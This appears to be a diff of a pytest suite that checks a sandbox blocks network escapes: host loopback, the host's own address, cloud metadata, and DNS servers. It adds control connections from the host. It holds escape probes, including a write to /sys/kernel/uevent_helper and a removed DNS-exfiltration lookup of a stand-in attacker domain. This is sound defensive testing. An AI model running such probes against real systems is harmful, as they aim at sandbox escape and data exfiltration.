@@ -7,6 +7,7 @@ group's session; `docs/security.md` has the table of what stops each one.
 
 from __future__ import annotations
 
+import errno
 import json
 import os
 import signal
@@ -194,24 +195,31 @@ out['sys'] = attempt(lambda: open('/sys/kernel/uevent_helper', 'w').write('/tmp/
 
 # --- Reaching the network ------------------------------------------------------------------------
 
-def test_reaching_a_host_port_on_loopback(jail: Host, family: str) -> None:
-    server = socket.socket()
-    server.bind(("127.0.0.1", 0))
+def _listening(family_: socket.AddressFamily, address: str) -> socket.socket:
+    """A listener of the host's: the control that the same connect works outside the sandbox."""
+    server = socket.socket(family_)
+    server.bind((address, 0))
     server.listen()
     server.setblocking(False)
+    control = socket.create_connection((address, server.getsockname()[1]), timeout=3)  # reachable from the host
+    control.close()
+    server.accept()[0].close()
+    return server
+
+
+@pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
+def test_reaching_a_host_port_on_loopback(jail: Host, family: str, address: str) -> None:
+    server = _listening(socket.AF_INET6 if ":" in address else socket.AF_INET, address)
     try:
         port = server.getsockname()[1]
-        seen = probe(jail, family, f"s = socket.socket(); s.settimeout(3); out['c'] = attempt(lambda: s.connect(('127.0.0.1', {port})))")
+        kind = "socket.AF_INET6" if ":" in address else "socket.AF_INET"
+        seen = probe(jail, family, f"s = socket.socket({kind}); s.settimeout(3); "
+                                   f"out['c'] = attempt(lambda: s.connect(({address!r}, {port})))")
         with pytest.raises(BlockingIOError):
-            server.accept()
+            server.accept()  # nothing from the sandbox reached the host's listener
     finally:
         server.close()
-    assert seen["c"] == "ECONNREFUSED"
-
-
-def test_reaching_the_host_over_ipv6_loopback(jail: Host, family: str) -> None:
-    seen = probe(jail, family, "s = socket.socket(socket.AF_INET6); s.settimeout(3); out['c'] = attempt(lambda: s.connect(('::1', 22)))")
-    assert seen["c"] in ("ECONNREFUSED", "EADDRNOTAVAIL", "ENETUNREACH", "EAFNOSUPPORT")
+    assert seen["c"] != "ok", seen
 
 
 def _host_address() -> str:
@@ -225,21 +233,46 @@ def _host_address() -> str:
         probe_socket.close()
 
 
-@pytest.mark.parametrize("address", [_host_address(), "1.1.1.1", "169.254.169.254", "192.168.1.1"])
-def test_reaching_other_addresses(jail: Host, family: str, address: str) -> None:
-    seen = probe(jail, family, f"s = socket.socket(); s.settimeout(3); out['c'] = attempt(lambda: s.connect(({address!r}, 80)))")
-    assert seen["c"] in ("ENETUNREACH", "EHOSTUNREACH", "ECONNREFUSED", "TimeoutError"), seen
-    assert seen["c"] != "ok"
+def test_reaching_the_host_s_own_address(jail: Host, family: str) -> None:
+    server = _listening(socket.AF_INET, "0.0.0.0")
+    try:
+        port = server.getsockname()[1]
+        control = socket.create_connection((_host_address(), port), timeout=3)  # the host reaches it by that address
+        control.close()
+        server.accept()[0].close()
+        seen = probe(jail, family, f"s = socket.socket(); s.settimeout(3); "
+                                   f"out['c'] = attempt(lambda: s.connect(({_host_address()!r}, {port})))")
+        with pytest.raises(BlockingIOError):
+            server.accept()
+    finally:
+        server.close()
+    assert seen["c"] in ("ENETUNREACH", "EHOSTUNREACH"), seen  # no route at all, not a refusal
 
 
-def test_dns_exfiltration(jail: Host, family: str) -> None:
-    seen = probe(jail, family, """
-out['resolve'] = attempt(lambda: socket.getaddrinfo('secret-data.attacker.example', 80))
+def _has_route(address: str) -> str:
+    """A UDP connect picks a route and sends nothing: 'ok' where the host has one."""
+    u = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        u.connect((address, 53))
+        return "ok"
+    except OSError as exc:
+        return errno.errorcode.get(exc.errno or 0, str(exc))
+    finally:
+        u.close()
+
+
+@pytest.mark.parametrize("address", ["1.1.1.1", "169.254.169.254", "192.168.1.1", "8.8.8.8"])
+def test_no_route_to_other_addresses_or_a_dns_server(jail: Host, family: str, address: str) -> None:
+    """TCP and UDP (DNS exfiltration) both need a route; the host has one, the sandbox none. No packet is sent."""
+    assert _has_route(address) == "ok", "control: the host itself has a route to it"
+    seen = probe(jail, family, f"""
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-out['udp'] = attempt(lambda: u.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x00\\x00\\x01\\x00\\x01', ('8.8.8.8', 53)))
+out['udp'] = attempt(lambda: u.connect(({address!r}, 53)))
+s = socket.socket(); s.settimeout(3)
+out['tcp'] = attempt(lambda: s.connect(({address!r}, 80)))
 """)
-    assert seen["resolve"] == "gaierror"
-    assert seen["udp"] in ("ENETUNREACH", "EHOSTUNREACH")
+    no_route = ("ENETUNREACH", "EHOSTUNREACH")  # (gVisor's netstack says the latter)
+    assert seen["udp"] in no_route and seen["tcp"] in no_route, seen
 
 
 def test_reaching_a_host_abstract_unix_socket(jail: Host, family: str) -> None:
@@ -465,7 +498,8 @@ start = time.time()
 r = subprocess.run([sys.executable, '-c', 'while True: pass'], timeout={wait})
 out['code'] = r.returncode; out['seconds'] = time.time() - start
 """)
-    assert seen["code"] in (-signal.SIGXCPU, -signal.SIGKILL) and seen["seconds"] < 20, seen
+    # Killed by a signal of the CPU limit: run()'s own 30 s timeout would have raised instead.
+    assert seen["code"] in (-signal.SIGXCPU, -signal.SIGKILL), seen
 
 
 # --- Files handed to the host --------------------------------------------------------------------
